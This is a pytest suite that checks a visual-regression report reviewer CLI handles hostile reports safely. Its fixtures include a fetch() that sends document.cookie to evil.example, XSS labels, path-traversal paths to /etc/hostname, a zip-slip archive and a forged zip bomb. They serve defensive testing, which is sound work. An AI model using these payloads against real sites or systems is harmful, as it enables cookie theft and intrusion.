"""Hostile reports and images: each case gets a clear one-line error on the affected pair (or
the report), the other pairs are still analysed, the decision is hold, the exit code is the
documented one, no traceback reaches the user, and nothing is written outside --out."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import numpy as np
import pytest
from hostile import BAD_IMAGES, FLAVOURS, GOOD, GOOD_PNG, baseline, entry, png, write_report


def run_cli(*args: object, cwd: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "reviewer", *map(str, args)], capture_output=True, text=True,
                          cwd=cwd, timeout=600)


def snapshot(folder: Path) -> set[str]:
    return {str(p.relative_to(folder)) for p in folder.rglob("*")}


def analyse(tmp_path: Path, tests, images, config_text=None):
    """Run the CLI on a generated report; check the invariants every hostile case shares."""
    src = tmp_path / "src"
    data = write_report(src, tests, images, config_text)
    before = snapshot(tmp_path)
    out = tmp_path / "out"
    res = run_cli("analyze", data, "--out", out, "--quiet", cwd=tmp_path)
    created = {p for p in snapshot(tmp_path) - before if not p.startswith("out")}
    assert created == set(), f"written outside --out: {created}"
    assert "Traceback" not in res.stderr + res.stdout
    review = json.loads((out / "review.json").read_text()) if (out / "review.json").exists() else None
    return res, review


def pair_by_file(review, name):
    return next(p for p in review["pairs"] if p["file"] == name)


def assert_healthy_pairs_analysed(review):
    assert pair_by_file(review, "ok_same.png")["verdict"] == "unchanged"
    assert pair_by_file(review, "ok_changed.png")["verdict"] == "changed"


@pytest.mark.parametrize("case", sorted(BAD_IMAGES))
@pytest.mark.parametrize("side", ["reference", "test"])
def test_bad_image_is_an_error_pair_and_the_rest_is_analysed(tmp_path, case, side):
    make, mentions = BAD_IMAGES[case]
    tests, images = baseline()
    bad = make()
    images["bad.png"] = (bad, GOOD_PNG) if side == "reference" else (GOOD_PNG, bad)
    tests.append(entry("bad.png"))
    res, review = analyse(tmp_path, tests, images)
    assert res.returncode == 3
    p = pair_by_file(review, "bad.png")
    assert p["verdict"] == "error" and mentions in p["reason"] and "\n" not in p["reason"]
    assert_healthy_pairs_analysed(review)
    assert review["decision"]["action"] == "hold"


@pytest.mark.parametrize("flavour", sorted(FLAVOURS))
def test_other_png_flavours_are_compared_not_rejected(tmp_path, flavour):
    tests, images = baseline()
    grey = np.repeat(GOOD.mean(axis=2, keepdims=True).astype(np.uint8), 3, 2)
    ref = GOOD if flavour in ("alpha", "palette") else grey
    images["flavour.png"] = (png(ref), FLAVOURS[flavour]())
    tests.append(entry("flavour.png"))
    res, review = analyse(tmp_path, tests, images)
    assert res.returncode == 3  # the baseline's changed pair holds
    p = pair_by_file(review, "flavour.png")
    assert p["verdict"] in ("unchanged", "noise"), p["reason"]


def test_missing_images_and_missing_reference(tmp_path):
    tests, images = baseline()
    images["noref.png"] = (None, GOOD_PNG)
    images["notest.png"] = (GOOD_PNG, None)
    tests += [entry("noref.png"), entry("notest.png")]
    res, review = analyse(tmp_path, tests, images)
    assert res.returncode == 3
    assert "reference image noref.png is missing" in pair_by_file(review, "noref.png")["reason"]
    assert "test image notest.png is missing" in pair_by_file(review, "notest.png")["reason"]
    assert_healthy_pairs_analysed(review)


@pytest.mark.parametrize("path", ["/etc/hostname", "../../../../etc/hostname", "..\\..\\..\\secret.png",
                                  "C:\\secret.png"])
def test_image_paths_out_of_the_report(tmp_path, path):
    tests, images = baseline()
    (tmp_path / "secret.png").write_bytes(GOOD_PNG)
    tests.append(entry("esc.png", reference=path))
    images["esc.png"] = (None, GOOD_PNG)
    res, review = analyse(tmp_path, tests, images)
    assert res.returncode == 3
    p = pair_by_file(review, "esc.png")
    assert p["verdict"] == "error" and "refusing" in p["reason"]
    assert_healthy_pairs_analysed(review)


def test_symlink_out_of_the_report(tmp_path):
    tests, images = baseline()
    secret = tmp_path / "secret.png"
    secret.write_bytes(GOOD_PNG)
    tests.append(entry("link.png"))
    images["link.png"] = (None, GOOD_PNG)
    data = write_report(tmp_path / "src", tests, images)
    os.symlink(secret, data / "bitmaps_reference" / "link.png")
    res = run_cli("analyze", data, "--out", tmp_path / "out", "-q", cwd=tmp_path)
    review = json.loads((tmp_path / "out" / "review.json").read_text())
    p = pair_by_file(review, "link.png")
    assert p["verdict"] == "error" and "outside the report" in p["reason"]
    assert res.returncode == 3


def test_duplicate_file_names(tmp_path):
    tests, images = baseline()
    tests.append(entry("ok_same.png", label="Impostor"))
    res, review = analyse(tmp_path, tests, images)
    errors = [p for p in review["pairs"] if p["verdict"] == "error"]
    assert len(errors) == 1 and errors[0]["label"] == "Impostor" and "also used by" in errors[0]["reason"]
    assert res.returncode == 3


@pytest.mark.parametrize("label", [
    "<img src=x onerror=alert(1)><script>alert(2)</script>",
    "bell\x07 and escape\x1b[31m red",
    "עברית العربية mixed \u202e RTL",
    "x" * 10_000,
])
def test_hostile_labels_are_analysed_and_kept_as_text(tmp_path, label):
    tests, images = baseline()
    tests.append(entry("label.png", label=label, url="javascript:alert(1)"))
    images["label.png"] = (GOOD_PNG, GOOD_PNG)
    res, review = analyse(tmp_path, tests, images)
    p = pair_by_file(review, "label.png")
    assert p["verdict"] == "unchanged"
    assert "\x07" not in p["label"] and "\x1b" not in p["label"]
    html = (tmp_path / "out" / "index.html").read_text()
    assert "<script>alert(2)" not in html and "<img src=x" not in html
    assert "\x1b" not in res.stdout


@pytest.mark.parametrize(("text", "message"), [
    ("", "empty"),
    ("report({\"tests\": []}); fetch('https://evil.example/'+document.cookie);", "unexpected content after"),
    ("report(this is not json);", "no valid JSON"),
    ("report({\"id\": \"x\"});", "`tests` is missing"),
    ("report({\"tests\": \"nope\"});", "`tests` is missing"),
    ("window.location='https://evil.example'", "does not start with"),
])
def test_bad_config_js_exits_1_with_a_clear_error(tmp_path, text, message):
    tests, images = baseline()
    res, review = analyse(tmp_path, tests, images, config_text=text)
    assert res.returncode == 1, res.stdout + res.stderr
    assert review is None
    assert res.stderr.startswith("error: ") and message in res.stderr
    assert len(res.stderr.strip().splitlines()) == 1


def test_wrong_types_inside_tests_become_error_pairs(tmp_path):
    tests, images = baseline()
    tests += [{"pair": "nope"}, {"pair": {"label": ["x"], "reference": 5, "test": {"a": 1}}}, 7]
    res, review = analyse(tmp_path, tests, images)
    assert res.returncode == 3
    assert sum(p["verdict"] == "error" for p in review["pairs"]) == 3
    assert_healthy_pairs_analysed(review)


def test_report_with_no_tests_holds(tmp_path):
    res, review = analyse(tmp_path, [], {})
    assert res.returncode == 3
    assert review["decision"]["action"] == "hold" and "no tests" in review["decision"]["reasons"][0]


def test_report_with_5000_tests(tmp_path):
    tests, images = baseline()
    tests += [entry(f"missing_{i}.png") for i in range(4998)]
    res, review = analyse(tmp_path, tests, images)
    assert res.returncode == 3
    assert len(review["pairs"]) == 5000
    assert review["counts"]["error"] == 4998
    assert_healthy_pairs_analysed(review)


@pytest.mark.slow
def test_legitimately_huge_page(tmp_path):
    tall = np.full((30_000, 1500, 3), 255, np.uint8)
    tall[::50, :, :] = 30
    changed = tall.copy()
    changed[20_000:20_020, 100:400] = (200, 0, 0)
    tests, images = baseline()
    tests.append(entry("tall.png"))
    images["tall.png"] = (png(tall), png(changed))
    res, review = analyse(tmp_path, tests, images)
    assert res.returncode == 3
    p = pair_by_file(review, "tall.png")
    assert p["verdict"] == "changed" and p["regions"][0]["y"] == 20_000


def test_zip_slip_and_zip_bomb_exit_1(tmp_path):
    evil = tmp_path / "evil.zip"
    with zipfile.ZipFile(evil, "w") as zf:
        zf.writestr("backstop_data/html_report/config.js", "report({\"tests\": []});")
        zf.writestr("../outside.txt", "x")
    res = run_cli("analyze", evil, "--out", tmp_path / "out", cwd=tmp_path)
    assert res.returncode == 1 and "zip slip" in res.stderr and "Traceback" not in res.stderr
    assert not (tmp_path.parent / "outside.txt").exists()

    bomb = tmp_path / "bomb.zip"
    with zipfile.ZipFile(bomb, "w") as zf:
        info = zipfile.ZipInfo("backstop_data/big.bin")
        zf.writestr(info, b"\0" * 1024)
    # forge the declared size: the central directory claims 20 GiB
    raw = bytearray(bomb.read_bytes())
    cd = raw.rfind(b"PK\x01\x02")
    raw[cd + 24 : cd + 28] = (0xFFFFFFFE).to_bytes(4, "little")
    bomb.write_bytes(bytes(raw))
    res = run_cli("analyze", bomb, "--out", tmp_path / "out2", cwd=tmp_path)
    assert res.returncode == 1 and "Traceback" not in res.stderr


def test_output_folder_locked_by_another_run(tmp_path):
    import fcntl

    tests, images = baseline()
    data = write_report(tmp_path / "src", tests, images)
    out = tmp_path / "out"
    out.mkdir()
    with open(out / ".reviewer.lock", "w") as fh:
        fcntl.flock(fh, fcntl.LOCK_EX)
        res = run_cli("analyze", data, "--out", out, cwd=tmp_path)
    assert res.returncode == 1 and "another reviewer run is writing" in res.stderr


def test_unwritable_output_folder(tmp_path):
    if os.geteuid() == 0:
        pytest.skip("root can write anywhere; permission errors cannot be provoked")
    tests, images = baseline()
    data = write_report(tmp_path / "src", tests, images)
    out = tmp_path / "ro"
    out.mkdir()
    out.chmod(0o500)
    res = run_cli("analyze", data, "--out", out / "x", cwd=tmp_path)
    assert res.returncode == 1 and "permission" in res.stderr


def test_debug_shows_traceback_only_when_asked(tmp_path):
    (tmp_path / "html_report").mkdir()
    (tmp_path / "html_report" / "config.js").write_text("report(nope);")
    plain = run_cli("analyze", tmp_path, "--out", tmp_path / "o", cwd=tmp_path)
    debug = run_cli("--debug", "analyze", tmp_path, "--out", tmp_path / "o", cwd=tmp_path)
    assert "Traceback" not in plain.stderr and "Traceback" in debug.stderr
    assert plain.returncode == debug.returncode == 1
    shutil.rmtree(tmp_path / "html_report")


@pytest.mark.parametrize(("err", "message"), [(28, "disk is full"), (13, "no permission")])
def test_write_failures_are_clear_errors_and_leave_no_partial_outputs(tmp_path, monkeypatch, err, message):
    """ENOSPC and EACCES while writing the outputs (provoked in-process: as root, a read-only
    folder would not stop us)."""
    from pathlib import Path as P

    from reviewer.analyze import run
    from reviewer.config import Settings
    from reviewer.errors import ReportError

    tests, images = baseline()
    data = write_report(tmp_path / "src", tests, images)
    real_write = P.write_text

    def failing_write(self, *args, **kwargs):
        if self.name.endswith(".part"):
            real_write(self, "half of it")  # a disk fills up in the middle of a file
            raise OSError(err, os.strerror(err), str(self))
        return real_write(self, *args, **kwargs)

    monkeypatch.setattr(P, "write_text", failing_write)
    with pytest.raises(ReportError, match=message):
        run(data, tmp_path / "out", Settings(workers=1))
    assert not (tmp_path / "out" / "review.json").exists()
    assert not list((tmp_path / "out").glob(".*.part"))
